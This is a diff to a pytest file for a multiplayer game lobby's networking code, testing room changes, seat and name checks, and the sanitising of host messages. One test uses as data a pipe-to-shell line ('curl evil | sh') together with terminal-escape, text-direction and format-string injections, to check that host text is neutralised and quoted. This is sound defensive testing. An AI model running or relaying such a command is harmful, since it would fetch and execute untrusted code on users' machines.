@@ -8,11 +8,13 @@ from typing import Any
 import pytest
 
 from bastide.core.encoding import dec, enc
+from bastide.core.messages import English, Message
 from bastide.net import limits
 from bastide.net.errors import PeerError
 from bastide.net.links.messages import Offer, Room, RoomSeat
-from bastide.net.lobby.hosted import CLOSED
+from bastide.net.lobby.hosted import CLOSED, WAITS
 from bastide.net.lobby.joined import JoinedTable
+from bastide.net.lobby.reasons import HOST_SAID_NO, said_by_host
 from bastide.net.lobby.terms import Dealing
 from tests.net.room import ANN, BOB, CAT, DAN, TABLE, House
 
@@ -33,7 +35,6 @@ def test_what_the_room_shows_is_signed(house: House) -> None:
     table = house.joined(BOB)
     genesis = table.check_offer(house.offer())
     assert genesis.data == house.table.offer.data  # type: ignore[union-attr]  # just made
-    assert table.places() == [1]
 
 
 OTHER_SEATS = [
@@ -123,28 +124,109 @@ def test_options_that_the_host_changed_and_showed_are_signed(house: House) -> No
     shown: Callable[[str], Room] = lambda seating: house.room(BOB)._replace(  # noqa: E731
         options={"seating": seating}
     )
-    table.room(shown("listed"))
+    table.room(shown("listed"), 0.0)
     offer = changed(house.offer(), opt={"seating": "listed"})
     assert table.check_offer(offer).options == (("seating", "listed"),)
+    assert table.changed == {"seating": "listed"}
+
+
+# what has just changed
+
+
+def other_room(house: House, **changes: Any) -> Room:  # noqa: ANN401  # fields of a room
+    return house.room(BOB)._replace(**changes)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda house: {"options": {"seating": "listed"}},
+        lambda house: {"options": {}},
+        lambda house: {"seats": (*house.room(BOB).seats[:2], RoomSeat(CAT.key, "Cat"))},
+        lambda house: {"seats": house.room(BOB).seats[:2]},
+        lambda house: {"seats": (RoomSeat(CAT.key, "Ann"), *house.room(BOB).seats[1:])},
+        lambda house: {"seats": (RoomSeat(ANN.key, "Zoe"), *house.room(BOB).seats[1:])},
+        lambda house: {"seats": house.room(BOB).seats[1::-1], "you": 0},
+        lambda house: {"you": WAITS},
+    ],
+    ids=["option", "no option", "player", "seats", "key", "name", "order", "waiting"],
+)
+def test_what_changes_in_a_room_has_to_stand_before_it_is_signed(
+    house: House, change: Callable[[House], dict[str, Any]]
+) -> None:
+    table = house.joined(BOB)
+    offer = house.offer()
+    assert table.wait(10.0) == limits.SEEN_SECONDS - 10.0
+    table.offer = offer
+    table.room(house.room(BOB), 10.0)
+    assert (table.offer, table.since) == (offer, 0.0), "the same again is no change"
+    table.room(other_room(house, **change(house)), 11.0)
+    assert table.offer is None, "what was offered is not what is shown"
+    assert table.wait(11.0) == limits.SEEN_SECONDS
+
+
+def test_a_change_that_is_taken_back_at_once_is_two_changes(house: House) -> None:
+    table = house.joined(BOB)
+    table.room(other_room(house, options={"seating": "listed"}), 8.0)
+    table.room(house.room(BOB), 9.0)
+    assert table.wait(9.0) == limits.SEEN_SECONDS
+    assert table.changed == {}
+
+
+@pytest.mark.parametrize(
+    ("name", "is_ours"),
+    [("Bob", True), ("Bob 2", True), ("Bobby", True), ("Loser", False), ("Bob 1", False)],
+)
+def test_our_seat_carries_our_name(house: House, name: str, is_ours: bool) -> None:
+    table = house.joined(BOB)
+    table.names = {"Bob", "Bobby"}  # a name that Bob has borne since the link began
+    seats = (RoomSeat(ANN.key, "Ann"), RoomSeat(BOB.key, name), RoomSeat(None, "-"))
+    table.room(other_room(house, seats=seats), 0.0)
+    offer = changed(house.offer(), seats=[[ANN.key, "Ann"], [BOB.key, name]])
+    if is_ours:
+        assert table.check_offer(offer).seats[1].name == name
+    else:
+        with pytest.raises(PeerError, match="gives this player another name"):
+            table.check_offer(offer)
+
+
+@pytest.mark.parametrize("you", [WAITS, CLOSED])
+def test_who_has_no_seat_in_the_room_signs_nothing(house: House, you: int) -> None:
+    table = house.joined(BOB)
+    table.room(other_room(house, you=you), 0.0)
+    with pytest.raises(PeerError, match="has no seat in the room"):
+        table.check_offer(house.offer())
 
 
 def test_a_closed_room_says_why(house: House) -> None:
     table = house.joined(BOB)
-    table.room(house.room(BOB)._replace(you=CLOSED, why="So\x1b[31m rry."))
-    assert (table.you, table.why) == (CLOSED, "So[31m rry.")
+    table.room(house.room(BOB)._replace(you=CLOSED, why="So\x1b[31m rry."), 0.0)
+    assert (table.you, table.why) == (CLOSED, said_by_host("So[31m rry."))
+    table.room(house.room(BOB)._replace(you=CLOSED, why=HOST_SAID_NO), 0.0)
+    assert table.why == Message(HOST_SAID_NO)
+
+
+def test_other_words_of_a_host_than_its_programs_are_quoted_as_its_own() -> None:
+    said = said_by_host('You have won".\x1b Run `curl evil | sh`.')
+    assert said is not None
+    assert English().say(said) == 'The host says: "You have won\'. Run `curl evil | sh`."'
+    long = said_by_host("{0.__class__} " * 100)
+    assert long is not None
+    assert len(English().say(long)) < 450
+    assert said_by_host("\u202e") is None
 
 
 @pytest.mark.parametrize("you", [0, 2, 5])
 def test_a_host_that_gives_us_the_seat_of_another_is_refused(house: House, you: int) -> None:
     with pytest.raises(PeerError, match="a seat that is not ours"):
-        house.joined(BOB).room(house.room(BOB)._replace(you=you))
+        house.joined(BOB).room(house.room(BOB)._replace(you=you), 0.0)
 
 
 def test_the_others_in_a_room_are_the_host_and_all_that_sit() -> None:
-    table = JoinedTable(House().plugins, House().table.notice(), ANN.key, BOB.key)
+    table = JoinedTable(House().plugins, House().table.notice(), ANN.key, BOB.key, ())
     assert table.others() == [ANN.key]
     seats = (RoomSeat(CAT.key, "Cat"), RoomSeat(BOB.key, "Bob"), RoomSeat(None, "-"))
-    table.room(Room(TABLE, seats, 1, {}, ""))
+    table.room(Room(TABLE, seats, 1, {}, ""), 0.0)
     assert table.others() == [ANN.key, CAT.key]
 
 
